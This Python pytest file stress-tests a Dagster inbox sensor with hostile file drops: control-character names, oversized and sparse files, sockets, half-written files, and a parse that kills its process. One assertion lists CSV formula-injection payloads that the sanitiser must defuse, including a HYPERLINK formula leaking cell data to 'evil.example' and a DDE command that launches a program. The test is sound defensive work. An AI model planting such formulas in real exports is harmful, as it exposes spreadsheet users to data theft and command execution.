"""The hostile inbox (issue 14): every bad file we know, dropped at once and ticked through the real sensor.

Each entry ends rejected or accepted with a reason; every tick returns; nothing is lost (each entry's
inode turns up once, in the folder its outcome names, with its bytes); no file is left in the inbox
(a folder stays, by design, named every tick); no batch row is repeated across ticks; no name puts a
control character into a log line, a run tag or the batch view.
"""

from __future__ import annotations

import csv
import io
import os
import re
import signal
import socket
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest

from boeinghub_dagster.defs.intake.assets import COLUMNS
from boeinghub_dagster.domain.intake_names import escape_name
from boeinghub_dagster.domain.reporting import markdown_table
from boeinghub_dagster.resources import intake_parser
from boeinghub_dagster.resources.inbox import InboxResource
from boeinghub_dagster_tests.support.hostile_inbox import (
    DAY_NS,
    EARLIER,
    FRESH,
    ISSUE,
    READ,
    RESUMES,
    STAYS,
    HostileInbox,
    drop_file,
    left_in_inbox,
    moved_entries,
    special_entries,
    table_cells,
)
from boeinghub_dagster_tests.support.inbox import Ticker, xlsx_bytes

pytestmark = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)


def test_the_hostile_inbox(tmp_path, instance, store, monkeypatch):
    monkeypatch.setattr(intake_parser, "MEMORY_BYTES", 256 * 2**20)  # the reader's abort, for real, in its child
    inbox = tmp_path / "inbox"
    ticker = Ticker(instance, HostileInbox(path=str(inbox)), store)
    ticker.inbox.root()
    for i in range(10_000):  # the issue's earlier parts*.csv: the free-name search must not run out
        (inbox / "processed" / (f"parts-{i}.csv" if i else "parts.csv")).write_bytes(b"")
    drops, now = ISSUE + EARLIER, time.time_ns()
    for i, drop in enumerate(drops):
        if drop.make is not None:
            drop_file(inbox, drop, now - 2 * DAY_NS if drop.stale else now - 10**9 * (len(drops) - i))
    special_entries(inbox, tmp_path)
    monkeypatch.chdir(inbox)  # a relative name keeps the socket path under the 108-byte limit
    server = socket.socket(socket.AF_UNIX)
    server.bind("sock.txt")
    (inbox / FRESH).write_bytes(b"PK")
    RESUMES["half.txt"] = b"H3\nH4\n"
    before = {d.relative: os.lstat(inbox / d.relative) for d in drops}
    content = {
        k: (inbox / k).read_bytes()
        for k, st in before.items()
        if st.st_size < 2**25 and Path(inbox / k).is_file() and not Path(inbox / k).is_symlink()
    }

    results, ticks = [], 0
    try:
        while ticks < 15 and left_in_inbox(inbox):
            results.append(ticker.tick())
            ticks += 1
        rows = store.intake().report(limit=500)
        results += [ticker.tick() for _ in range(3)]  # nothing left: no row more, none repeated
    finally:
        server.close()
    assert ticks <= 10, f"{ticks} ticks to drain the inbox"
    assert set(os.listdir(inbox)) == STAYS  # no file left: a copy in progress waits, a folder stays, by design
    assert os.listdir(inbox / "publish") == [] and (inbox / "folder.txt" / "inside.txt").read_bytes() == b"A99\n"
    assert [r["id"] for r in store.intake().report(limit=500)] == [r["id"] for r in rows]
    skip = results[-1].skip_reason.skip_message
    assert "folder.txt/: a folder, left in place" in skip and f"{FRESH}: a file still being written" in skip

    by_name = {r["file_name"]: r for r in rows}
    assert len(by_name) == len(rows) == len(drops)  # one row per entry, none twice
    moved, log = moved_entries(inbox), "\n".join(ticker.logged)
    table = []
    for drop in drops:
        label, st = escape_name(drop.relative), before[drop.relative]
        row, where = by_name[label], moved[st.st_ino]  # nothing lost: the entry itself, in its outcome's folder
        assert where.parent.name == ("rejected" if drop.outcome == "rejected" else "processed"), drop.relative
        if drop.relative in content:  # byte for byte (half.txt: both halves)
            assert where.read_bytes() == (
                b"H1\nH2\nH3\nH4\n" if drop.relative == "half.txt" else content[drop.relative]
            )
        else:
            assert os.lstat(where).st_size == st.st_size
        status = {"rejected": "rejected", "duplicate": "duplicate"}.get(drop.outcome, row["status"])
        assert row["status"] == status and (status in ("rejected", "duplicate")) == (drop.outcome != "accepted"), label
        reason = row["reason"] or next(line for line in ticker.logged if line.startswith(f"{label}: batch"))
        assert drop.why in reason, (label, reason)
        note = {"rejected": ".reason.txt", "duplicate": ".duplicate.txt"}.get(drop.outcome)
        if note:  # beside the file, whatever its name's length
            assert drop.why in (where.parent / (where.name + note)).read_text(encoding="utf-8")
        elif " 0 lines rejected" not in reason:
            assert (where.parent / (where.name + ".rejected-lines.csv")).exists()
        kept = f"{where.parent.name}/{escape_name(where.name)[:40]}"
        table.append((label[:60], f"{drop.outcome} → {kept}", reason[:150]))

    assert "huge-sparse.txt" not in READ and "too-large.txt" not in READ  # refused from the size alone
    assert (inbox / "processed" / "parts-9.csv").exists() and not (inbox / "processed" / "parts.csv").read_bytes()
    assert re.fullmatch(r"parts-\d{8}T\d{12}Z\.csv", moved[before["parts.csv"].st_ino].name)  # a free name, at once
    assert (inbox / "rejected" / "bad%0Aname.txt").read_bytes() == b"A4\n"
    assert (inbox / "rejected" / "bad%FFname.txt").read_bytes() == b"A5\n"
    formulas = list(csv.reader(io.StringIO((inbox / "processed" / "formulas.txt.rejected-lines.csv").read_text())))
    assert [r[1] for r in formulas[1:]] == [
        '\'=HYPERLINK("http://evil.example/?"&A1)',
        "'@SUM(A1)",
        "'=CMD|' /C calc'!A0",
        "'=1+2",
        "'+A1",
        "'-2+3",
    ]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in formulas for cell in row)
    assert "half.txt: it changed while being read (6 bytes listed, 12 read); left for the next tick" in log
    assert store.intake().parts(by_name["half.txt"]["id"]) == ["H1", "H2", "H3", "H4"]
    assert all(line.isprintable() for line in ticker.logged)  # no control character in a log line
    assert all(v.isprintable() for r in results for req in r.run_requests for v in req.tags.values())
    view = markdown_table(rows, COLUMNS, limit=500).splitlines()
    assert len(view) == 2 + len(rows) and {table_cells(line) for line in view} == {len(COLUMNS)}
    assert all(line.isprintable() for line in view)
    print("\n" + "\n".join(" | ".join(t) for t in table))


KILLER = """
import os, signal, sys
import dagster as dg
from boeinghub_dagster.defs.intake.steps import inbox as steps
from boeinghub_dagster.defs.intake.sensors import inbox_sensor
from boeinghub_dagster.resources.inbox import InboxResource
from boeinghub_dagster.resources.store import StoreResource

steps.parse_bounded = lambda *a, **k: os.kill(os.getpid(), signal.SIGKILL)  # the process dies mid-parse
inbox, url, cursor = sys.argv[1:4]
with dg.instance_for_test() as instance:
    resources = {"inbox": InboxResource(path=inbox), "store": StoreResource(database_url=url)}
    inbox_sensor(dg.build_sensor_context(instance=instance, cursor=cursor, resources=resources))
"""


def test_a_file_whose_parsing_killed_the_sensors_process_is_refused_at_the_next_tick(
    tmp_path, instance, store, database_url
):
    ticker = Ticker(instance, InboxResource(path=str(tmp_path / "inbox")), store)
    content = xlsx_bytes([["BACB30LH3-4"]])
    ticker.drop("killer.xlsx", content)
    ticker.tick()
    died = subprocess.run(
        [sys.executable, "-c", textwrap.dedent(KILLER), ticker.inbox.path, database_url, ticker.cursor],
        capture_output=True,
        timeout=180,
    )
    assert died.returncode == -signal.SIGKILL, died.stderr.decode()[-2000:]
    assert (tmp_path / "inbox" / "killer.xlsx").read_bytes() == content and store.intake().report() == []

    result = ticker.tick()
    assert result.run_requests == []
    reason = (tmp_path / "inbox" / "rejected" / "killer.xlsx.reason.txt").read_text()
    assert (
        " UTC and never finished: the hub's process stopped while reading this file, so it is not read again" in reason
    )
    assert (
        reason.startswith("parsing began at ")
        and (tmp_path / "inbox" / "rejected" / "killer.xlsx").read_bytes() == content
    )
    assert [(r["file_name"], r["status"]) for r in store.intake().report()] == [("killer.xlsx", "rejected")]
    assert store.intake().parse_began("killer.xlsx", store.intake().report()[0]["sha256"]) is None  # the mark is gone
    ticker.tick()
    assert len(store.intake().report()) == 1
